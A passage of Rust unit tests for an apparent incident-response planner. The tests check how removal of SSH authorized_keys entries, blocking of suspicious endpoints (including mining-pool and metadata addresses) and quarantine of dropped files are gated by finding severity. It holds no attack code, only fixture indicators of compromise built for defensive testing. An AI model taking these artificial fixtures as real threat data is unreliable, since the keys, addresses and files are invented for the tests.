        assert!(!plan.manual.iter().any(|m| m.contains("acme")));
    }

    const ADMIN: &[u8] = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHyV7npSij/Lmm6DuavMkUFzdZvgk1mtiCYirL4rUPqq admin@bastion";
    const OTHER: &[u8] = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g dev@laptop";

    fn key_subject(model: &HostModel, path: &[u8], line: u32) -> Subject {
        let content = model
            .content(model.file(path).expect("record"))
            .expect("content");
        let raw = content
            .split(|b| *b == b'\n')
            .nth(line as usize - 1)
            .expect("line");
        let k = authorized_keys::parse_line(line, raw).expect("key");
        Subject::SshKey {
            fingerprint: k.fingerprint,
            path: RawBytes::from(path),
            line,
        }
    }

    /// Gates of the plan's line removals: (line number, gate).
    fn line_gates(plan: &Plan) -> Vec<(u32, Gate)> {
        plan.items
            .iter()
            .filter_map(|i| match &i.action {
                Action::RemoveLines { lines, .. } => Some(lines),
                _ => None,
            })
            .flatten()
            .map(|l| (l.number, l.gate.clone()))
            .collect()
    }

    #[test]
    fn keys_medium_ones_are_review_items_the_last_one_never_without_attribution() {
        let both = [ADMIN, b"\n", OTHER, b"\n"].concat();
        let make = || {
            fixture::model(
                vec![
                    fixture::file(b"/root/.ssh/authorized_keys", Some(&both)),
                    fixture::file(
                        b"/home/a/.ssh/authorized_keys",
                        Some(&[OTHER, b"\n"].concat()),
                    ),
                ],
                vec![],
            )
        };
        let model = make();
        let root2 = key_subject(&model, b"/root/.ssh/authorized_keys", 2);
        let only = key_subject(&model, b"/home/a/.ssh/authorized_keys", 1);
        // Medium: the root file keeps the admin key, so the other is a review item; the only key of
        // account a is left to the responder.
        let f = finding(&crate::detect::rules::SSH_005, Severity::Medium)
            .subject(root2.clone())
            .subject(only.clone());
        let plan = plan_of(model, doc(vec![f]));
        assert_eq!(
            line_gates(&plan),
            vec![(2, Gate::Review(vec![1]))],
            "{:?}",
            plan.items
        );
        assert_eq!(plan.reviews.len(), 1);
        assert!(plan.applies_nothing_unasked());
        assert!(
            plan.manual
                .iter()
                .any(|m| m.contains("/home/a/.ssh/authorized_keys") && m.contains("last key")),
            "{:?}",
            plan.manual
        );
        // Attributed (a known attacker key): removed by --apply, even the last one.
        let f = finding(&crate::detect::rules::SSH_001, Severity::Critical)
            .subject(root2)
            .subject(only);
        let plan = plan_of(make(), doc(vec![f]));
        assert_eq!(
            line_gates(&plan),
            vec![(1, Gate::Apply), (2, Gate::Apply)],
            "{:?}",
            plan.items
        );
        assert!(plan.reviews.is_empty());
    }

    #[test]
    fn endpoints_are_blocked_unasked_only_with_pool_evidence_and_never_infrastructure() {
        let model = fixture::model(
            vec![fixture::file(
                b"/etc/resolv.conf",
                Some(b"# dns\nnameserver 127.66.8.53\nnameserver fe80::1%eth0\n"),
            )],
            vec![],
        );
        let ep = |a: &str| Subject::Endpoint { addr: a.into() };
        let f = finding(&crate::detect::rules::RUN_020, Severity::Critical)
            .subject(ep("127.66.0.1:3333"))
            .subject(ep("127.66.0.2:389"))
            .subject(ep("127.66.8.53:3333"))
            .subject(ep("169.254.169.254:80"))
            .subject(ep("10.0.0.5:4444"));
        let plan = plan_of(model, doc(vec![f]));
        let blocks: Vec<(String, Gate)> = plan
            .items
            .iter()
            .filter(|i| matches!(i.action, Action::BlockEndpoint { .. }))
            .map(|i| (i.action.target(), i.gate.clone()))
            .collect();
        assert_eq!(
            blocks,
            vec![
                ("10.0.0.5:4444".to_owned(), Gate::Review(vec![1])),
                ("127.66.0.1:3333".to_owned(), Gate::Apply),
                ("127.66.0.2:389".to_owned(), Gate::Review(vec![2])),
                ("127.66.8.53:3333".to_owned(), Gate::Review(vec![3])),
                ("169.254.169.254:80".to_owned(), Gate::Review(vec![4])),
            ]
        );
        let reasons: Vec<String> = plan.reviews.iter().map(|r| r.reason.join("; ")).collect();
        assert!(reasons[0].contains("private"), "{reasons:?}");
        assert!(reasons[1].contains("no pool evidence"), "{reasons:?}");
        assert!(reasons[2].contains("resolver"), "{reasons:?}");
        assert!(reasons[3].contains("metadata"), "{reasons:?}");
    }

    #[test]
    fn medium_only_artifacts_are_review_items_and_share_their_number_across_actions() {
        let model = fixture::model(
            vec![fixture::file(b"/tmp/.x/tool", Some(b"\x7fELF tool"))],
            vec![],
        );
        let f = finding(&crate::detect::rules::EVA_050, Severity::Medium)
            .subject(file_subject(model.file(b"/tmp/.x/tool").expect("record")));
        let plan = plan_of(model, doc(vec![f]));
        let gates: Vec<(&str, Gate)> = plan
            .items
            .iter()
            .map(|i| (i.action.stage().name(), i.gate.clone()))
            .collect();
        assert_eq!(
            gates,
            vec![
                ("preserve", Gate::Review(vec![1])),
                ("persistence", Gate::Review(vec![1])),
                ("verify", Gate::Apply)
            ]
        );
        assert!(plan.applies_nothing_unasked());
        assert!(!plan.is_empty());
        let lines = plan_lines(&plan);
        assert!(
            lines.iter().any(
                |l| l.starts_with("review 1: quarantine the file: /tmp/.x/tool")
                    && l.contains("rests on medium findings only")
            ),
            "{lines:?}"
        );
    }

    #[test]
    fn evidence_alone_is_not_copied_when_nothing_is_destroyed() {
        let model = fixture::model(
            vec![fixture::file(b"/var/log/auth.log", Some(b"x\n"))],
            vec![],
        );
        let f = finding(&crate::detect::rules::ACC_010, Severity::Medium).subject(file_subject(
            model.file(b"/var/log/auth.log").expect("record"),
        ));
        let plan = plan_of(model, doc(vec![f]));
        assert!(plan.is_empty(), "{:?}", plan.items);
    }

    #[test]
    fn merged_usr_names_reach_the_recorded_file_and_its_package_check() {
        let check = fixture::not_owned(b"/lib/libgcwrap.so", "preload");
        let model = fixture::model(
            vec![
                fixture::symlink(b"/lib", b"usr/lib"),
                fixture::file(b"/usr/lib/libgcwrap.so", Some(b"\x7fELF lib")),
            ],
            vec![check],
        );
        let f =
            finding(&crate::detect::rules::PER_040, Severity::Critical).subject(Subject::File {
                path: b"/lib/libgcwrap.so".as_slice().into(),
                sha256: None,
            });
        let plan = plan_of(model, doc(vec![f]));
        let q = quarantined(&plan);
        assert_eq!(q, vec![&b"/usr/lib/libgcwrap.so"[..]], "{:?}", plan.items);
    }
}
